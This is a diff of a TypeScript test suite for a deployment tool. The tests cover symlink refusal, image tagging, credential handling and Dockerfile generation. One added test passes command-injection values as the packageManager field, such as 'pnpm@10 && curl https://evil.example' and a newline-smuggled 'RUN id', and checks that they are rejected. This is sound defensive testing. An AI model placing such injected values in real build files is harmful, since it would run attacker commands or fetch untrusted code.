@@ -1,18 +1,16 @@
-import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { packContext } from "../../src/core/deploy/build-context.ts";
 import { createDeployTools } from "../../src/core/deploy/create-tools.ts";
-import { parseIgnore } from "../../src/core/deploy/dockerignore.ts";
 import { run } from "../../src/core/deploy/exec.ts";
 import { ignoreFolder, writeFiles } from "../../src/core/deploy/files.ts";
 import { resolveImageTag } from "../../src/core/deploy/image-tag.ts";
+import { openLocal } from "../../src/core/deploy/local/local-run.ts";
+import { localUp } from "../../src/core/deploy/local/local-up.ts";
+import { DEFAULT_OPTIONS } from "../../src/core/deploy/options.ts";
 import { readProject } from "../../src/core/deploy/project.ts";
-import { toTar } from "../../src/core/deploy/tar.ts";
 import { renderTemplates } from "../../src/core/deploy/templates.ts";
 import { PROJECT, temporaryProject, writeAll } from "./_fixture.ts";
-
-const DOCKER_FILES = { dockerfile: "FROM x\n", dockerignore: ".deployment\n**/*.key\n" };
 
 describe("generated files", () => {
   it("are written again when they change, until the user edits them", async () => {
@@ -57,89 +55,29 @@ describe("generated files", () => {
   });
 });
 
-describe("the build context", () => {
-  it("leaves out what is ignored, installed modules and the deployment folder", async () => {
-    const cwd = temporaryProject({
-      ...PROJECT,
-      ".deployment/state.json": "{}",
-      "node_modules/x/index.js": "",
-      "certs/server.key": "secret",
-      "data/api-key": "secret",
-      ".dockerignore": "data\n",
-    });
+describe("symbolic links in place of our files", () => {
+  it.each([".deployment", ".deployment/Dockerfile", ".deployment/logs", ".deployment/state"])(
+    "%s is refused, and nothing is written through it",
+    async (entry) => {
+      const cwd = temporaryProject({ ...PROJECT, "elsewhere/keep": "" });
+      if (entry !== ".deployment") mkdirSync(join(cwd, ".deployment"));
+      symlinkSync(join(cwd, "elsewhere"), join(cwd, entry));
+      const options = { ...DEFAULT_OPTIONS, env: "dev", filesOnly: true, name: "x" } as never;
+      const run = openLocal({ options, cwd, env: process.env, emit: () => undefined }).then(localUp);
 
-    const { files } = await packContext(cwd, DOCKER_FILES);
+      await expect(run).rejects.toMatchObject({ exitCode: 5, message: `${entry} is a symbolic link` });
+      expect(readdirSync(join(cwd, "elsewhere"))).toEqual(["keep"]);
+    },
+  );
 
-    expect(files.map((file) => file.path)).toEqual([
-      ".dockerignore",
-      "Dockerfile",
-      "package.json",
-      "src/controller.ts",
-    ]);
-  });
+  it("a .gitignore that is one is left as it is, and its text is not copied", async () => {
+    const cwd = temporaryProject({ private: "words of mine\n" });
+    symlinkSync("private", join(cwd, ".gitignore"));
 
-  it("has the same bytes for the same files, whatever their times", async () => {
-    const one = await packContext(temporaryProject(), DOCKER_FILES);
-    const two = await packContext(temporaryProject(), DOCKER_FILES);
-    const other = await packContext(temporaryProject({ ...PROJECT, "src/controller.ts": "2" }), DOCKER_FILES);
-
-    expect(two.hash).toBe(one.hash);
-    expect((await two.tarGz()).equals(await one.tarGz())).toBe(true);
-    expect(other.hash).not.toBe(one.hash);
-  });
-
-  it("takes credentials out of an .npmrc", async () => {
-    const npmrc =
-      "registry=https://npm.example/\n//npm.example/:_authToken=planted\nemail=a@b.c\n_password=planted\n";
-    const { files } = await packContext(temporaryProject({ ...PROJECT, ".npmrc": npmrc }), DOCKER_FILES);
-
-    const text = Buffer.from(files.find((file) => file.path === ".npmrc")?.content ?? []).toString();
-
-    expect(text).toBe("registry=https://npm.example/\nemail=a@b.c\n");
-  });
-
-  it("is read by tar: long names, links, modes", async () => {
-    const long = `${"folder-with-a-long-name/".repeat(6)}file-ü.txt`;
-    const cwd = temporaryProject({});
-    const archive = toTar([
-      { path: long, content: Buffer.from("long") },
-      { path: "run.sh", content: Buffer.from("#!/bin/sh\n"), executable: true },
-      { path: "link", content: Buffer.alloc(0), link: "run.sh" },
-    ]);
-
-    const result = await run("tar", ["xf", "-", "-C", cwd], { input: archive, env: process.env });
-
-    expect(result).toMatchObject({ code: 0, stderr: "" });
-    expect(readFileSync(join(cwd, long), "utf8")).toBe("long");
-    expect((await run(join(cwd, "link"), [], { env: process.env })).code).toBe(0);
-  });
-
-  it("carries symbolic links as such", async () => {
-    const cwd = temporaryProject();
-    symlinkSync("src/controller.ts", join(cwd, "main.ts"));
-
-    const { files } = await packContext(cwd, DOCKER_FILES);
-
-    expect(files.find((file) => file.path === "main.ts")?.link).toBe("src/controller.ts");
-  });
-});
-
-describe("ignore rules", () => {
-  it.each([
-    ["data", "data/x", true],
-    ["data", "src/data", false],
-    ["**/data", "src/data/y", true],
-    ["*.log", "a.log", true],
-    ["*.log", "logs/a.log", false],
-    ["**/*.log", "logs/a.log", true],
-    ["/data/", "data/x", true],
-    [".env*\n!.env.example", ".env.example", false],
-    [".env*\n!.env.example", ".env.local", true],
-    ["src/?.ts", "src/a.ts", true],
-    ["# data", "data", false],
-    ["a.b", "axb", false],
-  ])("%j and %j", (rules, path, ignored) => {
-    expect(parseIgnore(rules)(path)).toBe(ignored);
+    await expect(ignoreFolder(cwd)).rejects.toMatchObject({ fix: expect.stringContaining(".deployment/") });
+    expect(lstatSync(join(cwd, ".gitignore")).isSymbolicLink()).toBe(true);
+    writeFileSync(join(cwd, "private"), ".deployment/\n");
+    expect(await ignoreFolder(cwd)).toBe(false);
   });
 });
 
@@ -166,6 +104,17 @@ describe("the image tag", () => {
 
     expect(clean).toMatch(/^[0-9a-f]{12}$/);
     expect(dirty).toBe(`${clean}-dirty-01234567`);
+  });
+
+  it("is the commit alone beside the login files that a pipeline's steps write", async () => {
+    const cwd = temporaryProject();
+    const tools = createDeployTools({ cwd });
+    await git(cwd, "init", "-q");
+    await git(cwd, "add", ".");
+    await git(cwd, "commit", "-qm", "one");
+    writeAll(cwd, { "gha-creds-0123456789abcdef.json": "{}", "src/gha-creds-1.json": "{}" });
+
+    expect(await resolveImageTag(tools, { typed: undefined, cwd, contentHash })).toMatch(/^[0-9a-f]{12}$/);
   });
 
   it("is the content without git, and what was typed before all", async () => {
@@ -206,6 +155,35 @@ describe("the Dockerfile", () => {
     );
     expect(await dockerfile({ "yarn.lock": "", ".yarnrc.yml": "" })).toContain(
       "yarn workspaces focus --production",
+    );
+  });
+
+  it.each([
+    "pnpm@10 && curl https://evil.example",
+    "pnpm@10\nRUN id",
+    "npm@11 --registry=https://evil.example",
+    "yarn@https://evil.example/yarn.tgz",
+    "pnpm@10.4.1+sha512.a b",
+    "bun@1.2.0",
+    "pnpm",
+  ])("a packageManager such as %j never becomes a word of it", async (packageManager) => {
+    await expect(dockerfile({ "pnpm-lock.yaml": "" }, { packageManager })).rejects.toMatchObject({
+      exitCode: 2,
+      detail: expect.stringContaining("exact version"),
+    });
+  });
+
+  it("shows settings with a login to the installation alone", async () => {
+    const files = {
+      "package-lock.json": "{}",
+      ".npmrc": "_authToken=x\n",
+      ".yarnrc.yml": "npmAuthToken: x\n",
+    };
+
+    const text = await dockerfile(files);
+
+    expect(text).toContain(
+      "RUN --mount=type=secret,id=npmrc,target=/app/.npmrc --mount=type=secret,id=yarnrc-yml,target=/app/.yarnrc.yml npm ci",
     );
   });
 
